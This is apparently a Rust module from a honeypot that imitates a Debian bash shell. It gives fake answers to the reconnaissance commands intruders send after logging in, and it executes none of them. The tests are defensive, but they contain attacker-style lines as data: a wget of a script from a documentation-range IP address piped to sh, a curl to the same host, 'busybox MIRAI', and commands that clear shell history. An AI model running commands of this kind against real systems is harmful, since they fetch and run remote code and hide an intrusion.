//! A Debian 13 server's bash that runs nothing: it answers what bots and people ask first of a machine that let them in.
//!
//! What it says of the machine is the [persona's](crate::Persona). Nothing is kept: no file appears, no directory is changed.

mod machine;
mod programs;

use super::{
    Outcome,
    echo::echo,
    filter::filter,
    words::{Command, Joint, commands},
};
use crate::Persona;
use alloc::{
    format,
    string::{String, ToString},
    vec::Vec,
};
use honeymesh_types::WallTime;

/// The most that is printed for one line, in bytes; the rest is lost.
pub(crate) const OUTPUT_BYTES_MAX: usize = 12 * 1_024;
/// The longest user name that is shown as it is.
const USER_BYTES_MAX: usize = 32;
const NOT_FOUND: u32 = 127;

/// Whose shell it is, where and when.
pub(crate) struct Shell<'a> {
    persona: &'a Persona,
    user: String,
    now: WallTime,
    /// With a prompt, complaints begin with `-bash: `.
    interactive: bool,
}

/// What a line printed.
#[derive(Debug, Default)]
pub(crate) struct Output {
    pub(crate) out: Vec<u8>,
    /// Complaints; among the rest if `merged`.
    pub(crate) err: Vec<u8>,
    pub(crate) merged: bool,
    pub(crate) status: u32,
    /// The last command waits for input: a file is written, or a shell was started.
    pub(crate) reads: Option<Reads>,
}

/// What reads the stranger's input.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Reads {
    /// `cat > file` and the like.
    File,
    /// `sh`, `bash -s`: each line is a command.
    Commands,
    /// `cat` alone: what comes goes back.
    Echo,
}

impl Output {
    fn complain(&mut self, text: &str) {
        let place = if self.merged { &mut self.out } else { &mut self.err };
        place.extend_from_slice(text.as_bytes());
    }

    fn is_full(&self) -> bool {
        self.out.len() + self.err.len() >= OUTPUT_BYTES_MAX
    }
}

impl<'a> Shell<'a> {
    /// The shell of whoever logged in as `user`; a name that no Debian has is shown as `user`.
    pub(crate) fn new(persona: &'a Persona, user: &[u8], now: WallTime, interactive: bool) -> Self {
        let is_plain = |byte: &u8| byte.is_ascii_alphanumeric() || matches!(byte, b'_' | b'-' | b'.');
        let is_name = (1..=USER_BYTES_MAX).contains(&user.len()) && user.iter().all(is_plain);
        let user = if is_name { String::from_utf8_lossy(user).into_owned() } else { "user".to_string() };
        Self { persona, user, now, interactive }
    }

    /// What stands before each line.
    pub(crate) fn prompt(&self) -> String {
        format!("{}@{}:~{} ", self.user, self.persona.host(), if self.is_root() { '#' } else { '$' })
    }

    /// What a login on a terminal begins with.
    pub(crate) fn greeting(&self) -> String {
        format!(
            "Linux {} {} {} x86_64\n\nThe programs included with the Debian GNU/Linux system are free software;\n\
             the exact distribution terms for each program are described in the\n\
             individual files in /usr/share/doc/*/copyright.\n\n\
             Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\npermitted by applicable law.\n",
            self.persona.host(),
            self.persona.kernel(),
            self.persona.kernel_build()
        )
    }

    /// Answers a line.
    pub(crate) fn run(&self, line: &[u8], output: &mut Output) -> Outcome {
        let commands = commands(line);
        let mut rest = commands.as_slice();
        while let [first, behind @ ..] = rest {
            let length = 1 + behind.iter().take_while(|command| command.joint == Joint::Pipe).count();
            let (pipeline, further) = rest.split_at(length);
            rest = further;
            let runs = match first.joint {
                Joint::And => output.status == 0,
                Joint::Or => output.status != 0,
                Joint::Then | Joint::Pipe => true,
            };
            if !runs || output.is_full() {
                continue;
            }
            if matches!(first.slices().as_slice(), [b"exit" | b"logout", ..]) {
                return Outcome::Exit;
            }
            self.pipeline(pipeline, output);
        }
        output.out.truncate(OUTPUT_BYTES_MAX);
        output.err.truncate(OUTPUT_BYTES_MAX);
        Outcome::Prompt
    }

    fn pipeline(&self, pipeline: &[Command], output: &mut Output) {
        let mut piped: Option<Vec<u8>> = None;
        for (at, command) in pipeline.iter().enumerate() {
            let words = command.slices();
            let filtered = piped.as_ref().and_then(|input| filter(&words, input));
            let is_last = at + 1 == pipeline.len();
            let mut own = Output { merged: output.merged, ..Output::default() };
            match filtered {
                Some(filtered) => own.out = filtered,
                // What goes into something that is not known here is gone.
                None if piped.is_some() && Reads::of(&words, false).is_some() => {}
                None => self.command(command, &words, &mut own),
            }
            if !command.quiet {
                output.err.append(&mut own.err);
            }
            output.status = own.status;
            if is_last && piped.is_none() {
                output.reads = output.reads.or(own.reads);
            }
            if command.to_file {
                own.out.clear();
            }
            own.out.truncate(OUTPUT_BYTES_MAX);
            piped = Some(own.out);
        }
        output.out.append(&mut piped.unwrap_or_default());
    }

    fn command(&self, command: &Command, words: &[&[u8]], output: &mut Output) {
        output.reads = Reads::of(words, command.to_file);
        if output.reads.is_some() {
            return;
        }
        // `A=b command`, `sudo command` and the like.
        let skipped = words
            .iter()
            .take_while(|word| is_assignment(word) || matches!(**word, b"sudo" | b"nohup" | b"exec" | b"command"))
            .count();
        let words = &words[skipped..];
        match words {
            [] => {}
            [b"echo", rest @ ..] => echo(rest, b"\n", &mut output.out),
            _ if self.machine(words, output) || self.program(words, output) => {}
            [name, ..] => self.not_found(name, output),
        }
    }

    fn not_found(&self, name: &[u8], output: &mut Output) {
        output.status = NOT_FOUND;
        let shell = if self.interactive { "-bash: " } else { "bash: line 1: " };
        let name = String::from_utf8_lossy(name);
        let what = if name.contains('/') { "No such file or directory" } else { "command not found" };
        output.complain(&format!("{shell}{name}: {what}\n"));
    }

    fn is_root(&self) -> bool {
        self.user == "root"
    }

    fn home(&self) -> String {
        if self.is_root() { "/root".to_string() } else { format!("/home/{}", self.user) }
    }
}

impl Reads {
    fn of(words: &[&[u8]], to_file: bool) -> Option<Self> {
        match words {
            [b"cat"] | [b"cat", b"-"] if to_file => Some(Self::File),
            [b"cat"] | [b"cat", b"-"] => Some(Self::Echo),
            [b"tee", ..] | [b"dd", ..] => Some(Self::File),
            [b"sh" | b"bash" | b"/bin/sh" | b"/bin/bash"]
            | [b"sh" | b"bash" | b"/bin/sh" | b"/bin/bash", b"-s" | b"-i" | b"-l", ..] => Some(Self::Commands),
            _ => None,
        }
    }
}

fn is_assignment(word: &[u8]) -> bool {
    memchr::memchr(b'=', word)
        .is_some_and(|at| at > 0 && word[..at].iter().all(|byte| byte.is_ascii_alphanumeric() || *byte == b'_'))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::drive::said;

    /// 2026-11-30T12:00:00Z.
    const NOON: WallTime = WallTime(1_796_040_000_000_000);

    fn answered(user: &str, line: &str) -> (String, String, u32) {
        let persona = Persona::of([7; 32]).named("web-01").unwrap();
        let mut output = Output::default();
        let _ = Shell::new(&persona, user.as_bytes(), NOON, false).run(line.as_bytes(), &mut output);
        (said(&output.out), said(&output.err), output.status)
    }

    fn printed(line: &str) -> String {
        answered("root", line).0
    }

    #[test]
    fn what_bots_ask_first_is_answered() {
        let table = [
            ("uname -a", "Linux web-01 KERNEL x86_64 GNU/Linux\n"),
            ("uname -s -v -n -r -m", "Linux web-01 KERNEL x86_64\n"),
            ("uname", "Linux\n"),
            ("/bin/uname -m", "x86_64\n"),
            ("id", "uid=0(root) gid=0(root) groups=0(root)\n"),
            ("whoami; pwd; hostname", "root\n/root\nweb-01\n"),
            ("echo -e '\\x6F\\x6B'", "ok\n"),
            ("cd /tmp && echo $((1)) || echo no", "1\n"),
            ("false || echo yes", "yes\n"),
            ("cat /etc/debian_version; cat /etc/issue", "RELEASE\nDebian GNU/Linux 13 \\n \\l\n\n"),
            ("which ls uname wget", "/usr/bin/ls\n/usr/bin/uname\n/usr/bin/wget\n"),
            ("ls", ""),
            ("chmod 777 x; rm -rf /tmp/*; history -c; unset HISTFILE; export A=b", ""),
            ("busybox MIRAI", ""),
        ];
        for (line, expected) in table {
            let persona = Persona::of([7; 32]);
            let kernel = format!("{} {}", persona.kernel(), persona.kernel_build());
            let expected = expected.replace("KERNEL", &kernel).replace("RELEASE", persona.release());
            assert_eq!(printed(line), expected, "{line}");
        }
        assert_eq!(printed("cat /proc/cpuinfo | grep processor | wc -l"), printed("nproc"));
        assert!(printed("free -m | grep Mem | awk '{print $2}'").trim().parse::<u32>().unwrap() > 3_000);
        assert!(printed("lscpu | grep 'Model name'").starts_with("Model name: "));
        assert!(printed("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'").len() > 5);
        assert!(printed("w").starts_with(" 12:00:00 up ") && printed("uptime").ends_with('\n'));
        assert!(printed("ls -la").contains(" .bashrc\n") && printed("cat /proc/version").starts_with("Linux version 6."));
        assert!(printed("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'").ends_with("G\n"));
    }

    #[test]
    fn what_is_not_there_is_complained_of_as_bash_does() {
        let missing = answered("root", "nosuch; /tmp/x");
        assert_eq!(missing.1, "bash: line 1: nosuch: command not found\nbash: line 1: /tmp/x: No such file or directory\n");
        assert_eq!(missing.2, NOT_FOUND);
        assert_eq!(answered("root", "nosuch 2>/dev/null").1, "");
        assert_eq!(answered("root", "cat /nothing").1, "cat: /nothing: No such file or directory\n");
        assert!(answered("root", "wget http://198.51.100.9/i.sh -O- | sh").1.contains("Network is unreachable"));
        assert_eq!(answered("root", "curl -s http://198.51.100.9/i.sh").2, 7);
        assert_eq!(answered("root", "busybox MIRAI").1, "MIRAI: applet not found\n");
    }

    #[test]
    fn another_user_is_no_root_and_a_strange_one_is_nobody_strange() {
        assert_eq!(answered("admin", "id").0, "uid=1000(admin) gid=1000(admin) groups=1000(admin),27(sudo),100(users)\n");
        assert_eq!(answered("admin", "cat /etc/shadow").1, "cat: /etc/shadow: Permission denied\n");
        assert_eq!(answered("a\x1b[2J", "whoami").0, "user\n");
    }

    #[test]
    fn output_is_bounded_and_input_is_asked_for() {
        assert!(printed(&"cat /proc/cpuinfo;".repeat(60)).len() <= OUTPUT_BYTES_MAX);
        let persona = Persona::of([7; 32]);
        let shell = Shell::new(&persona, b"root", NOON, true);
        let reads = |line: &[u8]| {
            let mut output = Output::default();
            let _ = shell.run(line, &mut output);
            output.reads
        };
        assert_eq!(
            (reads(b"cat > /tmp/x"), reads(b"bash -s"), reads(b"cat"), reads(b"cat /etc/issue")),
            (Some(Reads::File), Some(Reads::Commands), Some(Reads::Echo), None)
        );
        assert_eq!(shell.run(b"id; exit; id", &mut Output::default()), Outcome::Exit);
    }
}
